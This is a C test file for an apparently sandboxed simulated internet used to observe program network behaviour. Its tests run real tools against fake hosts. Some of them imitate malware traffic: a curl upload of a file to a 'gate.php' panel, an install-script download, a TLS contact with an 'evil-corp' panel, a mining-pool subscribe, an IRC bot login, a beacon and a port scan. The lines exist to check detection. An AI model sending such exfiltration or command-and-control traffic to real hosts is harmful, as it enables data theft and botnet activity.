/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * The whole role, jailed, in front of a real Linux network stack: a tap device
 * in a network namespace of this test's own, its frames carried to the role.
 * Real programs (curl, ping, dig, python3) then use the simulated internet.
 * Needs a kernel that lets us make namespaces and tap devices; says so and skips otherwise.
 */
#include "base/buf.h"
#include "net/client.h"
#include "net/frame.h"
#include "net/netrole.h"
#include "os/file.h"
#include "os/loop.h"
#include "os/spawn.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/if.h>
#include <linux/if_tun.h>
#include <poll.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#define EVENTS_MAX 4096
#define OUTPUT_MAX (1u << 20)

static const uint8_t salt[16] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};

static struct world {
    char folder[64], pcap[96], resolv[96];
    bool ready;
    const char *why; /* not ready */
    pid_t relay;
    struct net_client *client;
    char *lines[EVENTS_MAX]; /* events as text: "kind|field|field..." */
    size_t nlines;
} world;

/* ---- the namespace and its tap device ---- */

static int run(const char *const *argv, struct buf *out)
{
    struct err e;
    int failed = spawn_run(argv, out, 60000, &e);

    if (failed)
        print_message("%s: %s\n%s\n", argv[0], e.text, out ? buf_z(out) : "");
    return failed;
}

#define RUN(out, ...) run((const char *const[]){__VA_ARGS__, NULL}, out)

static int tap_open(void)
{
    struct ifreq r = {.ifr_flags = IFF_TAP | IFF_NO_PI};
    int fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC);

    if (fd < 0)
        return -1;
    snprintf(r.ifr_name, sizeof(r.ifr_name), "bj0");
    if (ioctl(fd, TUNSETIFF, &r) < 0) {
        close(fd);
        return -1;
    }
    return fd;
}

/* Carries frames between the tap and the stream until one of them ends. */
static void relay(int tap, int stream)
{
    static uint8_t in[65536], frame[4 + 2048];
    size_t have = 0;

    for (;;) {
        struct pollfd p[2] = {{.fd = tap, .events = POLLIN}, {.fd = stream, .events = POLLIN}};
        if (poll(p, 2, -1) < 0)
            _exit(1);
        if (p[0].revents) {
            ssize_t n = read(tap, frame + 4, sizeof(frame) - 4);
            if (n <= 0)
                _exit(0);
            frame[0] = frame[1] = 0;
            frame[2] = (uint8_t)(n >> 8);
            frame[3] = (uint8_t)n;
            if (file_write_all(stream, frame, (size_t)n + 4) < 0)
                _exit(0);
        }
        if (!p[1].revents)
            continue;
        ssize_t n = read(stream, in + have, sizeof(in) - have);
        if (n <= 0)
            _exit(0);
        have += (size_t)n;
        size_t at = 0;
        while (have - at >= 4) {
            size_t size = (size_t)in[at] << 24 | (size_t)in[at + 1] << 16 | (size_t)in[at + 2] << 8 | in[at + 3];
            if (have - at - 4 < size)
                break;
            if (write(tap, in + at + 4, size) < 0 && errno != EINVAL)
                _exit(1);
            at += 4 + size;
        }
        memmove(in, in + at, have - at);
        have -= at;
    }
}

static const char *enter_namespace(void)
{
    if (geteuid() != 0)
        return "needs root for a network namespace with a tap device";
    if (unshare(CLONE_NEWNET | CLONE_NEWNS) < 0)
        return "this kernel does not let us make a network namespace";
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        return "cannot make mounts private";
    struct buf text;
    buf_init(&text, 256);
    buf_addz(&text, "nameserver " NET_GATEWAY_IP "\noptions timeout:3 attempts:2\n");
    int failed = file_write_atomic(world.resolv, text.data, text.len, 0644, NULL);
    buf_free(&text);
    if (failed || mount(world.resolv, "/etc/resolv.conf", NULL, MS_BIND, NULL) < 0)
        return "cannot mount a resolv.conf of our own";
    return NULL;
}

static const char *make_world(int *ret_stream)
{
    int pair[2], tap;
    const char *why = enter_namespace();

    if (why)
        return why;
    tap = tap_open();
    if (tap < 0)
        return "cannot make a tap device (/dev/net/tun)";
    if (RUN(NULL, "ip", "addr", "add", NET_GUEST_IP "/24", "dev", "bj0") ||
        RUN(NULL, "ip", "link", "set", "lo", "up") || /* a long queue: the tap drops what the relay does not fetch in
                                                         time, which no machine's network card does */
        RUN(NULL, "ip", "link", "set", "bj0", "txqueuelen", "20000", "up") ||
        RUN(NULL, "ip", "route", "add", "default", "via", NET_GATEWAY_IP))
        return "ip (iproute2) could not set up the tap device";
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) < 0)
        return "socketpair";
    world.relay = fork();
    if (world.relay == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        close(pair[0]);
        relay(tap, pair[1]);
    }
    close(tap);
    close(pair[1]);
    *ret_stream = pair[0];
    return NULL;
}

static void on_event(void *context, const struct event *ev)
{
    const struct event_kind_info *k = event_kind_info(ev->kind);
    struct buf b;

    (void)context;
    assert_int_equal(ev->source, EVENT_SOURCE_NET);
    assert_true(ev->time_ns > 0);
    if (world.nlines == EVENTS_MAX)
        return;
    buf_init(&b, 1u << 17);
    buf_addz(&b, k->name);
    for (unsigned i = 0; i < ev->count; i++)
        if (k->fields[i].type == EV_STR || k->fields[i].type == EV_TEXT)
            buf_addf(&b, "|%.*s", STR_ARG(ev->f[i].s));
        else
            buf_addf(&b, "|%llu", (unsigned long long)ev->f[i].u);
    world.lines[world.nlines++] = strdup(buf_z(&b));
    buf_free(&b);
}

static int setup(void **state)
{
    int stream = -1;
    struct err e;

    (void)state;
    snprintf(world.folder, sizeof(world.folder), "/tmp/bj-net-XXXXXX");
    assert_non_null(mkdtemp(world.folder));
    chmod(world.folder, 0755);
    snprintf(world.pcap, sizeof(world.pcap), "%s/net.pcap", world.folder);
    snprintf(world.resolv, sizeof(world.resolv), "%s/resolv.conf", world.folder);
    world.why = make_world(&stream);
    if (world.why) {
        print_message("skipped: %s\n", world.why);
        return 0;
    }
    struct net_client_options o = {.pcap_path = world.pcap, .frame_fd = stream, .salt = salt};
    if (net_client_start_with(&o, &world.client, &e) < 0) {
        print_error("%s\n", e.text);
        return -1;
    }
    close(stream);
    world.ready = true;
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    net_client_stop(&world.client);
    if (world.relay > 0) {
        kill(world.relay, SIGKILL);
        waitpid(world.relay, NULL, 0);
    }
    umount("/etc/resolv.conf");
    for (size_t i = 0; i < world.nlines; i++)
        free(world.lines[i]);
    file_remove_tree(world.folder, NULL);
    return 0;
}

static void need_world(void)
{
    if (!world.ready)
        skip();
}

static bool have_program(const char *name)
{
    static const char *const folders[] = {"/usr/bin", "/bin", "/usr/sbin", "/sbin"};
    char path[128];

    for (size_t i = 0; i < 4; i++) {
        snprintf(path, sizeof(path), "%s/%s", folders[i], name);
        if (access(path, X_OK) == 0)
            return true;
    }
    print_message("%s is not installed: this part is skipped\n", name);
    return false;
}

static void poll_events(int ms)
{
    uint64_t end = loop_now_ms() + (uint64_t)ms;

    do {
        struct pollfd p = {.fd = net_client_fd(world.client), .events = POLLIN};
        poll(&p, 1, 50);
        struct err e = {0};
        if (net_client_poll(world.client, on_event, NULL, &e) < 0)
            fail_msg("%s", e.text);
    } while (loop_now_ms() < end);
}

/* Waits until an event's text holds both parts. */
static const char *expect(const char *kind, const char *part)
{
    for (int turn = 0; turn < 40; turn++) {
        for (size_t i = 0; i < world.nlines; i++)
            if (strncmp(world.lines[i], kind, strlen(kind)) == 0 && strstr(world.lines[i], part))
                return world.lines[i];
        poll_events(100);
    }
    for (size_t i = 0; i < world.nlines && i < 40; i++)
        print_message("  %.200s\n", world.lines[i]);
    fail_msg("no %s with \"%s\"", kind, part);
    return NULL;
}

static void check_out(struct buf *b, const char *part)
{
    if (!strstr(buf_z(b), part))
        fail_msg("\"%s\" is not in: %.400s", part, buf_z(b));
}

/* ---- the tests ---- */

static void test_ping(void **state)
{
    struct buf out;

    (void)state;
    need_world();
    if (!have_program("ping"))
        skip();
    buf_init(&out, OUTPUT_MAX);
    assert_int_equal(RUN(&out, "ping", "-n", "-c", "2", "-i", "0.2", "-W", "3", "8.8.8.8"), 0);
    check_out(&out, " 0% packet loss");
    buf_clear(&out);
    /* in fragments, both ways */
    assert_int_equal(RUN(&out, "ping", "-n", "-c", "1", "-W", "3", "-s", "5000", "203.0.114.9"), 0);
    check_out(&out, "5008 bytes from 203.0.114.9");
    buf_clear(&out);
    assert_int_equal(RUN(&out, "ping", "-n", "-c", "1", "-W", "3", NET_GATEWAY_IP), 0);
    check_out(&out, "ttl=64");
    buf_free(&out);
}

static void test_curl(void **state)
{
    struct buf out;

    (void)state;
    need_world();
    if (!have_program("curl"))
        skip();
    buf_init(&out, OUTPUT_MAX);
    assert_int_equal(RUN(&out, "curl", "-sS", "-i", "-m", "20", "http://update.made-up-name.com/a/install.sh?x=1"), 0);
    check_out(&out, "HTTP/1.1 200 OK");
    check_out(&out, "#!/bin/sh\nexit 0\n");
    expect("dns.query", "|update.made-up-name.com|A|");
    const char *line = expect("http.request", "http://update.made-up-name.com/a/install.sh?x=1");
    assert_non_null(strstr(line, "|GET|update.made-up-name.com|"));
    assert_non_null(strstr(line, "|curl/"));
    assert_non_null(strstr(line, "|200|application/x-sh|"));
    line = expect("net.flow|tcp|" NET_GUEST_IP, "|80|update.made-up-name.com|http|");
    assert_non_null(strstr(line, "GET /a/install.sh?x=1 HTTP/1.1"));
    buf_clear(&out);

    /* a large upload with Expect, to a bare address and an odd port; two requests on one connection */
    assert_int_equal(RUN(NULL, "truncate", "-s", "3000000", world.resolv), 0);
    char at[128];
    snprintf(at, sizeof(at), "@%s", world.resolv);
    assert_int_equal(RUN(&out, "curl", "-sS", "-m", "30", "-H", "Expect: 100-continue", "-H",
                         "Transfer-Encoding: chunked", "--data-binary", at, "http://45.9.148.1:8081/gate.php", "--next",
                         "-sS", "-m", "20", "http://45.9.148.1:8081/x.json"),
                     0);
    check_out(&out, "It works!");
    check_out(&out, "{\"status\":\"ok\"}");
    line = expect("http.request|POST|45.9.148.1", "http://45.9.148.1:8081/gate.php");
    assert_non_null(strstr(line, "|3000000|"));
    buf_clear(&out);

    assert_int_equal(RUN(&out, "curl", "-sS", "-m", "20", "http://icanhazip.com/"), 0);
    uint32_t ip;
    assert_true(frame_ip_parse(str_trim(buf_str(&out)), &ip));
    buf_free(&out);
}

static void test_tls(void **state)
{
    struct buf out;

    (void)state;
    need_world();
    if (!have_program("curl"))
        skip();
    buf_init(&out, OUTPUT_MAX);
    uint64_t before = loop_now_ms();
    assert_int_not_equal(RUN(&out, "curl", "-sS", "-k", "-m", "20", "https://panel.evil-corp.net/"), 0);
    assert_true(loop_now_ms() - before < 5000);
    expect("net.flow|tcp|" NET_GUEST_IP, "|443|panel.evil-corp.net|tls|");
    buf_free(&out);
}

static const char python[] =
    "import socket, struct, time\n"
    "def talk(ip, port, data=b'', wait=True):\n"
    "    s = socket.create_connection((ip, port), 10)\n"
    "    if data: s.sendall(data)\n"
    "    r = s.recv(400) if wait else b''\n"
    "    s.close()\n"
    "    return r\n"
    "assert talk('5.6.7.8', 22).startswith(b'SSH-2.0-')\n"
    "assert talk('5.6.7.8', 25).startswith(b'220 ')\n"
    "assert talk('5.6.7.8', 21).startswith(b'220 ')\n"
    "talk('91.2.3.4', 4444, b'{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\\n', False)\n"
    "talk('91.2.3.5', 6667, b'NICK bot\\r\\n', False)\n"
    "s = socket.create_connection(('91.2.3.6', 31337), 10)\n"
    "for i in range(64): s.sendall(b'x' * 65536)\n"
    "s.close()\n"
    "many = [socket.create_connection(('77.1.2.%d' % (1 + i % 250), 1000 + i), 10) for i in range(900)]\n"
    "for s in many: s.sendall(b'hello')\n"
    "for s in many: s.close()\n"
    "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)\n"
    "u.sendto(b'\\x1b' + b'\\0' * 47, ('80.1.2.3', 123))\n"
    "r = u.recv(100)\n"
    "assert len(r) == 48 and r[0] & 7 == 4, r\n"
    "now = struct.unpack('!I', r[40:44])[0] - 2208988800\n"
    "assert abs(now - time.time()) < 2, now\n"
    "u.sendto(b'beacon', ('80.1.2.4', 9999))\n"
    "a = socket.gethostbyname('same.name.org'); b = socket.gethostbyname('SAME.name.org')\n"
    "assert a == b\n"
    "try:\n"
    "    socket.gethostbyname('nothing.invalid'); raise SystemExit('invalid resolved')\n"
    "except socket.gaierror: pass\n"
    "print('fine')\n";

static void test_other_protocols(void **state)
{
    struct buf out;

    (void)state;
    need_world();
    if (!have_program("python3"))
        skip();
    buf_init(&out, OUTPUT_MAX);
    assert_int_equal(RUN(&out, "/usr/bin/python3", "-c", python), 0);
    check_out(&out, "fine");
    expect("net.flow|tcp|" NET_GUEST_IP, "|91.2.3.4|4444||stratum|");
    expect("net.flow|tcp|" NET_GUEST_IP, "|91.2.3.5|6667||irc|10|");
    expect("net.flow|tcp|" NET_GUEST_IP, "|91.2.3.6|31337||raw|4194304|");
    expect("net.flow|tcp|" NET_GUEST_IP, "|5.6.7.8|22||ssh|0|");
    expect("net.scan", "|200|"); /* 900 ports on 250 hosts */
    expect("dns.query", "|nothing.invalid|A|NXDOMAIN|");
    buf_free(&out);
}

static void test_dig(void **state)
{
    struct buf out;
    static const char *const asks[][2] = {{"MX", "10 mail.example.org."},
                                          {"TXT", "v=spf1"},
                                          {"NS", "ns1.example.org."},
                                          {"SOA", "hostmaster.example.org."}};

    (void)state;
    need_world();
    if (!have_program("dig"))
        skip();
    buf_init(&out, OUTPUT_MAX);
    for (size_t i = 0; i < 4; i++) {
        buf_clear(&out);
        assert_int_equal(RUN(&out, "dig", "@1.1.1.1", "+time=3", "example.org", asks[i][0]), 0);
        check_out(&out, asks[i][1]);
        check_out(&out, "status: NOERROR");
        assert_null(strstr(buf_z(&out), "WARNING"));
        assert_null(strstr(buf_z(&out), "malformed"));
    }
    buf_clear(&out);
    assert_int_equal(RUN(&out, "dig", "@9.9.9.9", "+tcp", "+short", "over-tcp.example.org", "A"), 0);
    struct str ip = str_trim(buf_str(&out));
    uint32_t address;
    assert_true(frame_ip_parse(ip, &address));
    char text[FRAME_IP_TEXT];
    frame_ip_text(address, text);
    buf_clear(&out);
    assert_int_equal(RUN(&out, "dig", "@9.9.9.9", "+short", "-x", text), 0);
    check_out(&out, "over-tcp.example.org.");
    buf_clear(&out);
    assert_int_equal(RUN(&out, "dig", "@9.9.9.9", "example.org", "AAAA"), 0);
    check_out(&out, "status: NOERROR");
    check_out(&out, "ANSWER: 0");
    buf_free(&out);
}

static void test_finish_and_pcap(void **state)
{
    struct err e = {0};
    struct buf out;

    (void)state;
    need_world();
    if (net_client_finish(world.client, 10000, on_event, NULL, &e) < 0)
        fail_msg("%s", e.text);
    expect("net.flow|icmp|" NET_GUEST_IP, "|8.8.8.8|0||icmp|");
    expect("net.flow|udp|" NET_GUEST_IP, "|80.1.2.4|9999||udp|6|0|");
    const struct net_client_status *s = net_client_status(world.client);
    assert_true(s->done);
    assert_int_equal(s->bad_batches, 0);
    assert_int_equal(s->lost, 0);
    assert_int_equal(s->dropped_frames, 0);
    assert_int_equal(s->pcap_left_out, 0);
    struct stat st;
    assert_int_equal(stat(world.pcap, &st), 0);
    assert_int_equal((uint64_t)st.st_size, s->pcap_bytes);
    assert_int_equal(s->pcap_bytes, 24 + 16 * (s->frames_in + s->frames_out) + s->bytes_in + s->bytes_out);
    if (!have_program("tshark"))
        return;
    buf_init(&out, 16u << 20);
    assert_int_equal(RUN(&out, "tshark", "-n", "-r", world.pcap, "-o", "ip.check_checksum:TRUE", "-o",
                         "tcp.check_checksum:TRUE", "-o", "udp.check_checksum:TRUE", "-Y",
                         "ip.dst==" NET_GUEST_IP " && (ip.checksum.status==0 || tcp.checksum.status==0 || "
                         "udp.checksum.status==0 || _ws.malformed)"),
                     0);
    if (strstr(buf_z(&out), "\u2192"))
        fail_msg("bad packets: %.600s", buf_z(&out));
    buf_clear(&out);
    assert_int_equal(RUN(&out, "tshark", "-n", "-r", world.pcap, "-Y", "http.request.method==POST"), 0);
    check_out(&out, "POST /gate.php");
    buf_free(&out);
}

int main(int argc, char **argv)
{
    static const struct role *const roles[] = {&net_role, NULL};
    int status = role_main(argc, argv, roles);
    if (status >= 0)
        return status;
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_ping),
        cmocka_unit_test(test_curl),
        cmocka_unit_test(test_tls),
        cmocka_unit_test(test_dig),
        cmocka_unit_test(test_other_protocols),
        cmocka_unit_test(test_finish_and_pcap),
    };

    return cmocka_run_group_tests(tests, setup, teardown);
}
